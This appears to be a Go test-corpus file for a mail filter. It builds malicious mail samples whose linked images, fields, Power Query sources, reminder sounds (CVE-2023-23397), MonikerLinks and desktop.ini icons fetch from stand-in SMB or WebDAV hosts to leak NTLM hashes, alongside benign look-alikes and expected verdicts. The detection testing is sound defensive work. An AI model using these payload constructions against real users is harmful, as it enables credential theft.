package corpus

import (
	"encoding/binary"
	"unicode/utf16"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/policy"
)

// References that make Windows fetch from the attacker's host by itself,
// with no click on a program: a UNC or WebDAV path (\\host\share,
// \\host@SSL@443\DavWWWRoot, file://host) makes Windows connect over SMB
// or WebDAV and send the user's NTLM hash. Each has an honest twin: a
// colleague's intranet path, an ordinary hyperlink, a picture linked from
// the sender's own web site, a reminder with its own sound.

// The attacker's host is a documentation address; the intranet's is a
// single-label name no Internet host can have.
const (
	leakHost  = `203.0.113.7`
	leakShare = `\\` + leakHost + `\share`
)

// Named properties of the reminder (MS-OXPROPS 2.219, 2.221, 2.222 in
// PSETID_Common): the sound file, "use my sound", "play a sound".
const (
	lidReminderFileParameter = 0x851F
	lidReminderOverride      = 0x851C
	lidReminderPlaySound     = 0x851E
)

// reminder is the named properties of a reminder that plays file.
func reminder(file string) []formats.MsgNamed {
	return []formats.MsgNamed{
		{GUID: formats.PSETIDCommon, LID: lidReminderOverride, Flag: true},
		{GUID: formats.PSETIDCommon, LID: lidReminderPlaySound, Flag: true},
		{GUID: formats.PSETIDCommon, LID: lidReminderFileParameter, Value: file},
	}
}

// tnefReminder is a TNEF property list (MS-OXTNEF 2.1.3.4) with the
// reminder properties: each named property is its type, its id (0x8000
// and up), the property set, kind 0 (a LID) and the LID, then its value.
func tnefReminder(file string) []byte {
	le := binary.LittleEndian
	b := le.AppendUint32(nil, 3)
	named := func(typ, id uint16, lid uint32) {
		b = le.AppendUint16(b, typ)
		b = le.AppendUint16(b, id)
		b = append(b, formats.PSETIDCommon[:]...)
		b = le.AppendUint32(b, 0)
		b = le.AppendUint32(b, lid)
	}
	named(0x000B, 0x8001, lidReminderOverride)
	b = le.AppendUint32(b, 1)
	named(0x000B, 0x8002, lidReminderPlaySound)
	b = le.AppendUint32(b, 1)
	named(0x001F, 0x8003, lidReminderFileParameter)
	var u []byte
	for _, c := range utf16.Encode([]rune(file + "\x00")) {
		u = le.AppendUint16(u, c)
	}
	b = le.AppendUint32(b, 1)
	b = le.AppendUint32(b, uint32(len(u)))
	b = append(b, u...)
	for len(b)%4 != 0 {
		b = append(b, 0)
	}
	return b
}

// linkedPicture is a paragraph with a DrawingML picture whose blip is
// linked (r:link), not embedded (r:embed): LibreOffice 7.4 loads such a
// picture from a web address as it opens the .docx (an OPTIONS request,
// WebDAV's, then GET; checked by hand with a local server), as Word does.
func linkedPicture(id string) string {
	return `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="914400" cy="457200"/><wp:docPr id="1" name="Picture 1"/>` +
		`<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">` +
		`<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>` +
		`<pic:blipFill><a:blip xmlns:r="` + officeRel + `" r:link="` + id + `"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
		`<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="457200"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
}

// remoteRefCases are the documents, in the three wrappings of officeCases.
func remoteRefCases() []officeCase {
	return []officeCase{
		{name: "docx-includepicture-unc", about: "docx whose INCLUDEPICTURE field (fldSimple, \\d: the picture is not stored) loads a picture from an SMB share on an Internet host as Word opens it, leaking the NTLM hash",
			action: policy.Quarantine, subject: "Floor plan", body: "The floor plan for the new office.\n", ctype: ctDocx, file: "floorplan.docx",
			data:  docxOf(`<w:p><w:r><w:t>Floor plan</w:t></w:r></w:p><w:p><w:fldSimple w:instr=' INCLUDEPICTURE "\\\\`+leakHost+`\\share\\plan.png" \d '><w:r><w:t>plan</w:t></w:r></w:fldSimple></w:p>`, "", "", nil),
			wants: []relWant{{"heuristic", "remote-fetch", "/word/document.xml"}}},
		{name: "docx-includetext-webdav-split", about: "docx whose INCLUDETEXT field, split over runs with case noise, includes a document from a WebDAV share (\\\\host@SSL@443\\DavWWWRoot)",
			action: policy.Quarantine, subject: "Terms", body: "Our updated terms.\n", ctype: ctDocx, file: "terms.docx",
			data:  docxOf(`<w:p>`+fldRuns(" IncludE", `Text "\\\\files.example.net@SSL@443\\DavWWWRoot\\terms.docx" `, `\* MERGEFORMAT `)+`</w:p>`, "", "", nil),
			wants: []relWant{{"heuristic", "remote-fetch", "/word/document.xml"}}},
		{name: "rtf-includepicture-unc", about: "RTF whose INCLUDEPICTURE field, its word split over groups, loads a picture from file://host, an SMB share on an Internet host",
			action: policy.Quarantine, subject: "Badge photo", body: "Your badge photo.\n", ctype: "application/rtf", file: "badge.rtf",
			data:  []byte(`{\rtf1\ansi{\fonttbl{\f0 Calibri;}}\pard Badge\par{\field{\*\fldinst {INCLUDE}{PICTURE "file://` + leakHost + `/share/photo.png" \\d}}{\fldrslt {x}}}}`),
			wants: []relWant{{"heuristic", "remote-fetch", ""}}},
		{name: "docx-linked-image-unc", about: "docx whose picture is linked, not embedded: an image relationship with TargetMode External to file://host on the Internet, which Word loads as it shows the page",
			action: policy.Quarantine, subject: "Logo", body: "The new logo.\n", ctype: ctDocx, file: "logo.docx",
			data: docxOf(`<w:p><w:r><w:t>Logo</w:t></w:r></w:p>`+linkedPicture("rId7"),
				`<Relationship Id="rId7" Type="`+officeRel+`/image" Target="file://`+leakHost+`/share/logo.png" TargetMode="External"/>`, "", nil),
			wants: []relWant{{"heuristic", "remote-fetch", "/word/_rels/document.xml.rels"}}},
		{name: "xlsx-power-query-web-on-open", about: "xlsx whose Power Query (M code in the DataMashup of customXml/item1.xml) loads a CSV from a web server into the sheet, its connection set to refresh as the workbook opens: the fetched cells can carry a DDE formula or a lure",
			action: policy.Tag, subject: "Rates", body: "The current rates.\n", ctype: ctXlsx, file: "rates.xlsx",
			data:  powerQueryWorkbook(`Source = Csv.Document(Web.Contents("https://rates.example.net/daily.csv"), [Delimiter=","])`, true),
			wants: []relWant{{"heuristic", "power-query-fetch", mashupM}}},
		{name: "xlsx-power-query-share-on-open", about: "xlsx whose Power Query reads a CSV from an SMB share on an Internet host, refreshed as the workbook opens: Windows sends the reader's NTLM hash",
			action: policy.Tag, subject: "Stock list", body: "The stock list.\n", ctype: ctXlsx, file: "stock.xlsx",
			data:  powerQueryWorkbook(`Source = Csv.Document(File.Contents("`+leakShare+`\stock.csv"), [Delimiter=","])`, true),
			wants: []relWant{{"heuristic", "power-query-fetch", mashupM}}},
	}
}

// mashupM is where a workbook's M code is, below the workbook.
const mashupM = "/customXml/item1.xml/PackageParts.zip/Formulas/Section1.m"

// powerQueryWorkbook is an xlsx with a Power Query named Rates whose let
// expression is step (defining Source), as Excel saves it: the DataMashup
// in customXml/item1.xml, a connection to the query in xl/connections.xml,
// set to refresh when the workbook opens when onOpen.
func powerQueryWorkbook(step string, onOpen bool) []byte {
	m := "section Section1;\r\n\r\nshared Rates = let\r\n    " + step + "\r\nin\r\n    Source;"
	refresh := ""
	if onOpen {
		refresh = ` refreshOnLoad="1"`
	}
	conns := xmlHead + `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" keepAlive="1" name="Query - Rates" description="Connection to the 'Rates' query in the workbook." type="5" refreshedVersion="8" background="1" saveData="1"` + refresh + `>` +
		`<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Rates;Extended Properties=&quot;&quot;" command="SELECT * FROM [Rates]"/></connection></connections>`
	return xlsxOf([][]string{{"Item", "Value"}}, nil, "",
		docxPart{name: "customXml/item1.xml", relType: officeRel + "/customXml", relID: "rId5", data: formats.DataMashup(m)},
		docxPart{name: "xl/connections.xml", ctype: "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", relType: officeRel + "/connections", relID: "rId6", data: []byte(conns)})
}

func remoteRefSamples() []Sample {
	bad := func(name, about string, wants ...Want) Sample {
		return Sample{Name: name, About: about, Action: policy.Quarantine, Want: wants}
	}
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	alt := func(plain, page string) node { return multipart("alternative", text(plain), html(page)) }

	// HTML bodies: Outlook and Windows fetch what an <img> or a stylesheet
	// names as the mail is shown; a file: link with "!" after the file
	// (CVE-2024-21413, MonikerLink) opens without the protected-view prompt.
	add(bad("html-img-unc", "an HTML mail whose 1x1 image is on an SMB share of an Internet host (\\\\host\\share): shown, it sends the reader's NTLM hash",
		w("heuristic", "remote-fetch", "2")),
		mail{subject: "Your parcel", root: alt("Your parcel is on its way.\n",
			`<html><body><p>Your parcel is on its way.</p><img src="`+leakShare+`\pixel.png" width="1" height="1"></body></html>`)})
	add(bad("html-img-webdav", "an HTML mail whose background and stylesheet load from a WebDAV share over TLS (file://host@SSL@443/DavWWWRoot), entity-encoded",
		w("heuristic", "remote-fetch", "2")),
		mail{subject: "Newsletter", root: alt("This month's news.\n",
			`<html><head><link rel="stylesheet" href="file://files.example.net@SSL@443/DavWWWRoot/news.css"></head>`+
				`<body background="&#92;&#92;files.example.net@SSL@443&#92;DavWWWRoot&#92;bg.png"><p>This month's news.</p></body></html>`)})
	add(bad("html-monikerlink", "an HTML mail linking to file:///\\\\host\\share\\file.rtf!something: the MonikerLink (CVE-2024-21413) that opens the remote file without Outlook's warning",
		w("heuristic", "remote-fetch", "2")),
		mail{subject: "Invoice 7731", root: alt("Invoice 7731 is ready.\n",
			`<html><body><p>Invoice 7731 is ready: <a href="file:///`+leakShare+`\invoice.rtf!something">open the invoice</a></p></body></html>`)})

	// CVE-2023-23397: a task or appointment whose reminder plays a sound
	// from a share. Outlook fetches the file as the reminder fires, with
	// no click at all.
	add(bad("msg-reminder-unc", "an Outlook task (.msg attached) whose reminder sound, PidLidReminderFileParameter, is on an SMB share of an Internet host (CVE-2023-23397)",
		w("heuristic", "remote-fetch", "2/task.msg/__substg1.0_8002001F")),
		mail{subject: "Task: quarterly review", root: multipart("mixed", text("Please take on the task below.\n"),
			attach(outlookType, "task.msg", formats.MsgBytes(formats.Msg{Subject: "Quarterly review", Class: "IPM.Task",
				Body: "Review the quarter.\r\n", Named: reminder(leakShare + `\alarm.wav`)})))})
	add(bad("tnef-reminder-unc", "a rich-text mail (winmail.dat) whose message properties set a reminder sound on a WebDAV share (CVE-2023-23397 as Exchange sends it between organisations)",
		w("heuristic", "remote-fetch", "2")),
		mail{subject: "Meeting", root: multipart("mixed", text("See the meeting details.\n"),
			attach("application/ms-tnef", "winmail.dat", TNEFMessage("Meeting on Monday.", tnefReminder(`\\files.example.net@80\share\alarm.wav`))))})

	// Shortcuts and folder settings that Explorer reads by itself: the
	// icon of a folder's desktop.ini is fetched as the folder is shown.
	add(bad("zip-desktop-ini-unc", "a zip with a PDF and a desktop.ini whose IconResource is on an SMB share of an Internet host: Explorer fetches the icon as it shows the folder",
		w("heuristic", "remote-fetch", "2/documents.zip/desktop.ini")),
		mail{subject: "Documents", root: multipart("mixed", text("The documents you asked for.\n"),
			attach("application/zip", "documents.zip", zipOf(file{"contract.pdf", plainPDF("Contract")},
				file{"desktop.ini", []byte("[.ShellClassInfo]\r\nIconResource=" + leakShare + "\\folder.ico,0\r\n")})))})
	add(bad("iso-desktop-ini-unc", "a disk image whose desktop.ini gives the folder an icon from a WebDAV share: shown in Explorer once mounted",
		w("heuristic", "remote-fetch", "2/documents.iso/DESKTOP.INI")),
		mail{subject: "Documents", root: multipart("mixed", text("The documents you asked for.\n"),
			attach("application/x-iso9660-image", "documents.iso", isoOf("DOCS", file{"contract.pdf", plainPDF("Contract")},
				file{"desktop.ini", []byte("[.ShellClassInfo]\r\nIconFile=\\\\files.example.net@SSL@443\\DavWWWRoot\\folder.ico\r\nIconIndex=0\r\n")})))})

	// LibreOffice loads an OpenDocument picture linked with xlink:href as
	// it opens the file (checked by hand: OPTIONS, then GET).
	add(bad("odt-linked-image-unc", "an OpenDocument text whose picture is linked (draw:image xlink:href, actuate onLoad) from file://host, an SMB share on the Internet",
		w("heuristic", "remote-fetch", "2/notice.odt/content.xml")),
		mail{subject: "Notice", root: multipart("mixed", text("The notice.\n"),
			attach("application/vnd.oasis.opendocument.text", "notice.odt", odf("application/vnd.oasis.opendocument.text",
				`<office:text><text:p>Notice <draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" draw:name="logo" text:anchor-type="as-char" svg:width="2cm" svg:height="1cm">`+
					`<draw:image xlink:href="file://`+leakHost+`/share/logo.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text>`)))})

	// The honest twins.
	add(ok("xlsx-power-query-intranet", "a colleague's workbook whose Power Query reads a CSV from the intranet file server, refreshed by hand (no refresh on open)"),
		mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Rates", root: multipart("mixed", text("The rates workbook; refresh it to get today's figures.\n"),
			attach(ctXlsx, "rates.xlsx", powerQueryWorkbook(`Source = Csv.Document(File.Contents("\\fileserver\finance\rates.csv"), [Delimiter=","])`, false)))})
	add(ok("xlsx-power-query-intranet-on-open", "a colleague's workbook whose Power Query reads the intranet file server and refreshes as it opens"),
		mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Stock", root: multipart("mixed", text("The stock workbook; it updates itself.\n"),
			attach(ctXlsx, "stock.xlsx", powerQueryWorkbook(`Source = Csv.Document(File.Contents("\\fileserver.corp\finance\stock.csv"), [Delimiter=","])`, true)))})
	add(ok("text-intranet-path", "a colleague's plain-text mail naming a report on the file server (\\\\fileserver\\finance\\...)"),
		mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Q3 report",
			root: text("Hi Kenji,\n\nthe Q3 report is on the file server: \\\\fileserver\\finance\\2026\\Q3\\report.xlsx\nand the old ones under file://fileserver/finance/archive/.\n\nAiko\n")})
	add(ok("html-outlook-intranet-link", "an HTML mail in which Outlook turned a typed intranet path into a file: link (a click opens it, nothing loads by itself)"),
		mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Q3 report",
			root: alt("The report: \\\\fileserver\\finance\\report.xlsx\n",
				`<html><body><p>The report: <a href="file:///\\fileserver\finance\report.xlsx">\\fileserver\finance\report.xlsx</a></p>`+
					`<p><img src="https://www.example.com/signature.png" alt="logo"></p></body></html>`)})
	add(ok("docx-linked-image-own-site", "a docx with an ordinary hyperlink and a picture linked from the sender's own https site (a web fetch, no file share)"),
		mail{subject: "Catalogue", root: multipart("mixed", text("Our catalogue.\n"),
			attach(ctDocx, "catalogue.docx", docxOf(`<w:p><w:hyperlink r:id="rId8"><w:r><w:t>Shop online</w:t></w:r></w:hyperlink></w:p>`+linkedPicture("rId7"),
				`<Relationship Id="rId7" Type="`+officeRel+`/image" Target="https://shop.example.com/img/catalogue.png" TargetMode="External"/>`+
					`<Relationship Id="rId8" Type="`+officeRel+`/hyperlink" Target="https://shop.example.com/" TargetMode="External"/>`, "", nil)))})
	add(ok("docx-includepicture-intranet", "a company template whose INCLUDEPICTURE field loads the letterhead from the intranet file server (a single-label name)"),
		mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Letter draft", root: multipart("mixed", text("The letter draft.\n"),
			attach(ctDocx, "letter.docx", docxOf(`<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "\\\\fileserver\\templates\\letterhead.png" \d '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`+
				`<w:p><w:r><w:t>Dear Sir or Madam,</w:t></w:r></w:p>`, "", "", nil)))})
	add(ok("msg-reminder-local-sound", "an Outlook task (.msg) whose reminder plays the sound Windows ships (a local path)"),
		mail{subject: "Task: quarterly review", root: multipart("mixed", text("Please take on the task below.\n"),
			attach(outlookType, "task.msg", formats.MsgBytes(formats.Msg{Subject: "Quarterly review", Class: "IPM.Task",
				Body: "Review the quarter.\r\n", Named: reminder(`C:\Windows\Media\Alarm01.wav`)})))})
	add(ok("ics-reminder-no-file", "a meeting request with a display reminder 15 minutes before, and no sound file"),
		mail{subject: "Invitation: planning", root: multipart("mixed", text("Planning meeting on Thursday.\n"),
			attach("text/calendar; method=REQUEST", "invite.ics", []byte("BEGIN:VCALENDAR\r\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\n"+
				"BEGIN:VEVENT\r\nUID:kensa-corpus-planning\r\nDTSTART:20261210T100000Z\r\nDTEND:20261210T110000Z\r\nSUMMARY:Planning\r\n"+
				"LOCATION:\\\\fileserver\\projects\\planning\r\nORGANIZER;CN=Accounts:mailto:accounts@shop.example.com\r\n"+
				"BEGIN:VALARM\r\nTRIGGER:-PT15M\r\nACTION:DISPLAY\r\nDESCRIPTION:Reminder\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")))})
	add(ok("zip-desktop-ini-local", "a zipped folder copied from Windows with its desktop.ini, whose icon is a system library"),
		mail{subject: "Documents", root: multipart("mixed", text("The folder you asked for.\n"),
			attach("application/zip", "documents.zip", zipOf(file{"contract.pdf", plainPDF("Contract")},
				file{"desktop.ini", []byte("[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,-112\r\n[ViewState]\r\nMode=\r\n")})))})
	return out
}
